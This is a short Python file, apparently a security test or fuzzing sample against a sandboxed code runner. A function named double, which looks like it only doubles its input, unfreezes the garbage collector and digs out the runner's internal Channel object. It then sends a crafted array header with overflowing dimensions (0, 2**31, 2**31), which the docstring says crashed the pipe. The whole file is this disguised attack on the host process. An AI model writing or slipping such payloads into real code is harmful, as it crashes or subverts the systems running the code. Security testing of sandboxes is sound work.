"""Sends an empty array whose other sides multiply beyond what can be counted.

Seen: crashed: pipe
"""

import gc
import struct


def double(x):
    gc.unfreeze()
    ch = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    ch.send_encoded(b"a" + struct.pack("<cBBBB", b"b", 1, 3, 2, 1) + struct.pack("<3I", 0, 2**31, 2**31))
    return 2 * x
